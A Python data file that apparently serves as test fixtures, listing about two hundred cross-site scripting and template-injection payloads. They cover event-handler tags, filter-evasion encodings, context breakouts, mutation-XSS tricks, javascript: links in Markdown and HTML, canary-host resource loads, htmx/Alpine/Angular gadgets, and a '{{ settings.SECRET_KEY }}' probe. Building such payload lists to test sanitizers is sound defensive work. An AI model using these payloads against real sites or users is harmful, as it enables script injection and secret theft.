"""What people write who want to run something in somebody else's browser: some hundred ways, one after the other."""
# ruff: noqa: E501

from itertools import product

#: A host that nobody must ever ask for anything.
CANARY = "canary.test"
RUN = "alert(1)"
#: What is filled into `%s` below: elements that exist in every browser, and what makes them act by themselves.
_ELEMENTS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "iframe", "details open", "input autofocus",
    "select autofocus", "textarea autofocus", "marquee", "object data=x", "math", "style", "table", "xss tabindex=1 autofocus",
)  # fmt: skip
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationstart")
_RUNNING = [f"<{element} {event}={RUN}>" for element, event in product(_ELEMENTS, _EVENTS)]
_SPELT = [
    "<svg/onload=alert(1)>", "<svg\tonload=alert(1)>", "<svg\nonload\n=\nalert(1)>", "<SvG OnLoAd=alert(1)>",
    "<img src=x onerror=alert`1`>", "<img src=x onerror=&#97;lert(1)>", "<img src=x onerror\x0b=alert(1)>",
    "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>alert(1)</script>",
    "<script >alert(1)</script >", "<ScRiPt>alert(1)</sCrIpT>", "<script\x0c>alert(1)</script>", "<\u017fcript>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src='x' onerror='alert(1)", "<svg><script>alert&#40;1)</script>", "<svg><script xlink:href=data:,alert(1) />",
]  # fmt: skip
_LEAVING = [
    '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea><svg onload=alert(1)>", "</style><svg onload=alert(1)>",
    "--><script>alert(1)</script>", "]]><script>alert(1)</script>", '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)' x='", "` onload=alert(1) ", "\\\"><svg onload=alert(1)>", "';alert(1)//", '";alert(1)//',
    "\u2028alert(1)\u2029", "*/alert(1)/*", "${alert(1)}", "</template><svg onload=alert(1)>", "--!><svg onload=alert(1)>",
]  # fmt: skip
_CHANGING = [
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<xmp><p title='</xmp><svg onload=alert(1)>'></xmp>",
    "<select><template><img src=x onerror=alert(1)></template></select>", "<title><a href='</title><img src=x onerror=alert(1)>'>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>", "<a><svg><desc><a><style><img src=x onerror=alert(1)></style>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style>",
    "<p id=\"<img src='x' onerror='alert(1)'>\">", "<template shadowrootmode=open><svg onload=alert(1)></template>",
]  # fmt: skip
_ADDRESSES = [
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))", "[x](\x01javascript:alert(1))", "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "![x](javascript:alert(1))", "<javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)", '[x](https://a.example/"onmouseover="alert(1))', '[x](https://a.example "\\"onmouseover=alert(1) x=\\"")',
    "<a href=javascript:alert(1)>x</a>", "<a href=' java\nscript:alert(1)'>x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>", "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
]  # fmt: skip
_ASKING = [
    form.replace("@", f"//{CANARY}/")
    for form in (
        "<img src=@1>", "<img srcset='@2 1x'>", "<picture><source srcset=@3><img></picture>", "<video poster=@4>", "<iframe src=@5>",
        "<object data=@6>", "<embed src=@7>", "<link rel=stylesheet href=@8>", "<link rel=prefetch href=@9>", "<script src=@10></script>",
        "<script type=module>import('@11')</script>", "<style>@import '@12';</style>", "<p style='background:url(@13)'>",
        "<table background=@14>", "<base href=@15>", "<meta http-equiv=refresh content='0;url=@16'>", "<svg><use href=@17#x></svg>",
        "<svg><image href=@18></svg>", "<audio src=@19>", "<input type=image src=@20>", "![x](http:@21)", "<body background=@22>",
        "<video><track src=@23 default></video>", "<svg><feImage href=@24></svg>", "<link rel=icon href=@25>",
    )
]  # fmt: skip
_HTMX = [
    form.replace("@", f"//{CANARY}/")
    for form in (
        "<p hx-get=@a hx-trigger=load>x</p>", "<p data-hx-post=@b hx-trigger=load>x</p>", "<p hx-on:load=alert(1)>x</p>",
        "<p hx-on::load=alert(1)>x</p>", "<p hx-get=/ hx-trigger='load[alert(1)]'>x</p>", "<p hx-vals='js:{a:alert(1)}' hx-get=/ hx-trigger=load>x</p>",
        "<p hx-headers='js:{a:alert(1)}' hx-get=/ hx-trigger=load>x</p>", "<p hx-ext=sse sse-connect=@c>x</p>", "<p ws-connect=@d>x</p>",
        "<meta name=htmx-config content='{\"allowEval\":true}'>", "<p hx-boost=true><a href=@e>x</a></p>", "<p _='on load alert(1)'>x</p>",
        "<p x-data x-init=alert(1)>x</p>", "<p v-html=\"'<img src=x onerror=alert(1)>'\">x</p>", "<p ng-app ng-init=constructor.constructor('alert(1)')()>x</p>",
        "{{constructor.constructor('alert(1)')()}}", "{{ settings.SECRET_KEY }}", "{% debug %}", "{% load static %}{% static 'x' %}", "<%= 7*7 %>",
        "#{7*7}", "<c-button onclick=alert(1) />", "<tellback-widget></tellback-widget>", "<slot onslotchange=alert(1)>",
    )
]  # fmt: skip
PAYLOADS = [*_RUNNING, *_SPELT, *_LEAVING, *_CHANGING, *_ADDRESSES, *_ASKING, *_HTMX]
